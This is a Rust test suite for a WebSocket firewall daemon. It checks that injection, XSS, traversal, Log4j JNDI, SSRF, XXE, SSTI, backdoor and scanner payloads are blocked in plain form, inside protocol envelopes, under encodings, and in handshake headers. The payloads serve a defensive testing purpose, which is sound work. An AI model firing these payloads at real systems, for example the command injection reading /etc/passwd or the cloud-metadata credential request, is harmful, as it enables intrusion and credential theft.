//! What is found in messages and handshakes, through the daemon: every class, every envelope, every disguise.

use framewall_tests::http::Connection;
use framewall_tests::{App, Daemon, Kind, Lab, WsClient, lab};
use serde_json::{Value, json};
use tungstenite::Message;

const PORT: u16 = 8080;

/// One attack of each class that messages can carry, and its signal.
const ATTACKS: [(&str, &str); 17] = [
    ("SQLI", "1' UNION SELECT login, password FROM accounts -- "),
    ("XSS", "<img src=x onerror=alert(document.domain)>"),
    ("CMDEXE", "127.0.0.1; cat /etc/passwd"),
    ("TRAVERSAL", "../../../../../../etc/passwd"),
    ("LOG4J-JNDI", "${jndi:ldap://203.0.113.9/a}"),
    ("SSRF", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("XXE", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>"),
    ("SSTI", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("NOSQLI", "{\"login\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("CODEINJECTION", "<?php system($_GET['c']); ?>"),
    ("DESERIALIZATION", "O:8:\"Injector\":1:{s:4:\"code\";s:2:\"id\";}"),
    ("LDAPI", "*)(uid=*))(|(uid=*"),
    ("SSI", "<!--#exec cmd=\"id\" -->"),
    ("RESPONSESPLIT", "/home\r\nSet-Cookie: session=stolen"),
    ("BACKDOOR", "@eval(base64_decode($_POST['z0']));"),
    ("SCANNER", "acunetix_wvs_security_test"),
    ("OOB-DOMAIN", "http://c59h4fa2vtc0000gk1bgg8rh4aoyyyyyb.oast.fun/"),
];

fn as_message(text: &str) -> String {
    json!({"type": "msg", "data": {"text": text}}).to_string()
}

/// Sends a message on a connection of its own, and returns the event that it was blocked with.
fn blocked(lab: &Lab, app: &App, daemon: &Daemon, message: Message, what: &str) -> Value {
    let mut client = WsClient::connect(&lab.client, lab::v4(PORT));
    client.echo("harmless");
    client.send(message);
    client.wait_blocked();
    let reason = daemon.wait_closed(client.address);
    assert!(reason.starts_with("attack-"), "{what}: {reason}");
    assert_eq!(app.wait_messages(client.address, 1).len(), 1, "{what}");
    daemon.wait_message_event("message_blocked", client.address)
}

#[test]
fn every_class_of_attack_is_blocked() {
    let lab = Lab::new();
    let app = App::start(&lab, Kind::Tungstenite, PORT);
    // In mode log a message has all its signals.
    let logging = Daemon::start(&lab, &["--port", "8080", "--mode", "log"]);
    for (signal, attack) in ATTACKS {
        let mut client = WsClient::connect(&lab.client, lab::v4(PORT));
        client.echo(&as_message(attack));
        let address = client.address;
        client.close();
        // Its last event.
        logging.wait_closed(address);
        let address = address.to_string();
        let flagged = logging.events_of("message_flagged");
        let signals: Vec<_> =
            flagged.iter().filter(|event| event["client"] == address).map(|event| &event["signal"]).collect();
        assert!(signals.contains(&&json!(signal)), "{signal}: {attack}: {signals:?}");
    }
    drop(logging);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    for (_, attack) in ATTACKS {
        let event = blocked(&lab, &app, &daemon, Message::text(as_message(attack)), attack);
        assert!(event["location"].as_str().is_some_and(|at| at.starts_with("$.data.text")), "{event}");
        assert!(event["score"].as_u64().is_some_and(|score| score >= 5), "{event}");
        assert_ne!(event["evidence"], Value::Null);
    }
}

/// The same text as the clients of several protocols would send it.
fn envelopes(text: &str) -> Vec<(&'static str, Message)> {
    let quoted = json!(text).to_string();
    let twice = json!(quoted).to_string();
    let percent: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let markup = text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let len = u8::try_from(text.len()).expect("a short text");
    let string8 = [&[0xd9, len], text.as_bytes()].concat();
    let mqtt = [&[0x30, len + 3, 0, 1, b't'], text.as_bytes()].concat();
    let message = Message::text::<String>;
    vec![
        ("plain", message(text.to_owned())),
        ("JSON", message(format!("{{\"a\":[{{\"b\":{quoted}}}]}}"))),
        ("a JSON key", message(format!("{{{quoted}:1}}"))),
        ("JSON in JSON", message(format!("{{\"body\":{}}}", json!(format!("{{\"b\":{quoted}}}"))))),
        ("JSON lines", message(format!("{{\"a\":\"b\"}}\n{{\"a\":{quoted}}}\n"))),
        ("Socket.IO", message(format!("42/room,7[\"say\",{quoted}]"))),
        ("SockJS", message(format!("[{twice}]"))),
        ("SignalR", message(format!("{{\"type\":1,\"arguments\":[{quoted}]}}\u{1e}"))),
        ("STOMP", message(format!("SEND\ndestination:/a\n\n{text}\0"))),
        ("a form", message(format!("to=ann&text={percent}"))),
        ("XML", message(format!("<message to=\"ann\"><body>{markup}</body></message>"))),
        ("MessagePack", Message::binary([&b"\x81\xa4text"[..], &string8].concat())),
        ("CBOR", Message::binary([&[0xa1, 0x64][..], b"text", &[0x78, len], text.as_bytes()].concat())),
        ("Protocol Buffers", Message::binary([&[8, 1, 0x12, len][..], text.as_bytes()].concat())),
        ("MQTT", Message::binary(mqtt)),
        ("JSON as binary", Message::binary(format!("{{\"a\":{quoted}}}").into_bytes())),
    ]
}

#[test]
fn an_attack_is_blocked_in_every_envelope() {
    let lab = Lab::new();
    let app = App::start(&lab, Kind::Tungstenite, PORT);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    for (name, message) in envelopes("1' UNION SELECT login, password FROM accounts -- ") {
        let event = blocked(&lab, &app, &daemon, message, name);
        assert_eq!(event["signal"], "SQLI", "{name}: {event}");
    }
}

#[test]
fn what_is_harmless_passes_in_every_envelope() {
    let lab = Lab::new();
    let _app = App::start(&lab, Kind::Tungstenite, PORT);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    let mut client = WsClient::connect(&lab.client, lab::v4(PORT));
    for (name, message) in envelopes("It's 5 o'clock; select one & drop me a line (#7) -- Ann O'Brien") {
        client.send(message.clone());
        assert_eq!(client.receive(), message, "{name}");
    }
    client.close();
    assert_eq!(daemon.events_of("message_blocked"), Vec::<Value>::new());
}

/// The full-width form of an ASCII character (Unicode, Halfwidth and Fullwidth Forms).
fn full_width(ascii: u32) -> String {
    let wide = if ascii == 0x20 { 0x3000 } else { ascii + 0xfee0 };
    char::from_u32(wide).expect("a character").to_string()
}

#[test]
fn an_attack_is_blocked_in_every_disguise() {
    let attack = "<img src=x onerror=alert(document.cookie)>";
    let each = |format: &dyn Fn(u32) -> String| attack.chars().map(|c| format(c as u32)).collect::<String>();
    let percent = each(&|c| format!("%{c:02x}"));
    let disguises = [
        (percent.clone(), vec!["percent"]),
        (percent.replace('%', "%25"), vec!["percent", "percent"]),
        (each(&|c| format!("%u{c:04x}")), vec!["percent-u"]),
        (each(&|c| format!("\\u{c:04x}")), vec!["escape"]),
        (each(&|c| format!("\\x{c:02x}")), vec!["escape"]),
        (each(&|c| format!("&#{c};")), vec!["entity"]),
        (each(&|c| format!("{c:02x}")), vec!["hex"]),
        ("PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KGRvY3VtZW50LmNvb2tpZSk+".to_owned(), vec!["base64"]),
        (attack.chars().map(|c| format!("{c}\u{200b}")).collect(), vec!["zero-width"]),
        (each(&full_width), vec!["look-alike"]),
    ];
    let lab = Lab::new();
    let app = App::start(&lab, Kind::Tungstenite, PORT);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    for (disguise, layers) in disguises {
        let event = blocked(&lab, &app, &daemon, Message::text(as_message(&disguise)), &disguise);
        assert_eq!((&event["signal"], &event["layers"]), (&json!("XSS"), &json!(layers)), "{disguise}");
    }
}

#[test]
fn an_attack_in_the_handshake_is_refused_and_the_app_sees_nothing() {
    let lab = Lab::new();
    let app = App::start(&lab, Kind::Tungstenite, PORT);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    for (place, field) in [
        ("/chat?room=%27%20OR%20%271%27=%271", "X-A: b"),
        ("/chat", "Cookie: a=b; theme=' OR '1'='1"),
        ("/chat", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}"),
        ("/chat", "User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ] {
        let mut http = Connection::open(&lab.client, lab::v4(PORT));
        let request = format!(
            "GET {place} HTTP/1.1\r\nHost: app.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n{field}\r\n\r\n"
        );
        assert_eq!(http.exchange(request).status, 403, "{place} {field}");
        http.expect_eof();
        let address = http.address();
        // Else the daemon gives it its time of grace.
        drop(http);
        assert!(daemon.wait_closed(address).starts_with("attack-"), "{place} {field}");
    }
    assert_eq!(app.accepting_process().events_of("opened"), Vec::<Value>::new());
    assert_eq!(daemon.events_of("handshake_blocked").len(), 4);
    assert_eq!(daemon.events_of("websocket_opened"), Vec::<Value>::new());
}

#[test]
fn what_people_paste_is_tagged_and_passes() {
    let statement = as_message("SELECT name, age FROM people WHERE age > 30 ORDER BY age");
    let lab = Lab::new();
    let _app = App::start(&lab, Kind::Tungstenite, PORT);
    let daemon = Daemon::start(&lab, &["--port", "8080"]);
    let mut client = WsClient::connect(&lab.client, lab::v4(PORT));
    client.echo(&statement);
    let tag = daemon.wait_message_event("message_tagged", client.address);
    assert_eq!((&tag["signal"], &tag["location"]), (&json!("SQLI"), &json!("$.data.text")));
    assert!(tag["score"].as_u64().is_some_and(|score| (2..5).contains(&score)), "{tag}");
    client.close();
}

#[test]
fn the_profile_of_a_port_decides_what_blocks() {
    let suspicious = as_message("http://10.1.2.3/admin");
    let clear = as_message("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    for (profile, blocks_suspicious) in [("lenient", false), ("balanced", false), ("strict", true)] {
        let lab = Lab::new();
        let app = App::start(&lab, Kind::Tungstenite, PORT);
        let config = format!("[[port]]\nport = 8080\nprofile = \"{profile}\"\n");
        let daemon = Daemon::with_config(&lab, &config, &[]);
        if blocks_suspicious {
            blocked(&lab, &app, &daemon, Message::text(suspicious.clone()), profile);
        } else {
            let mut client = WsClient::connect(&lab.client, lab::v4(PORT));
            client.echo(&suspicious);
            client.close();
        }
        let event = blocked(&lab, &app, &daemon, Message::text(clear.clone()), profile);
        assert_eq!(event["signal"], "SSRF", "{profile}");
    }
}
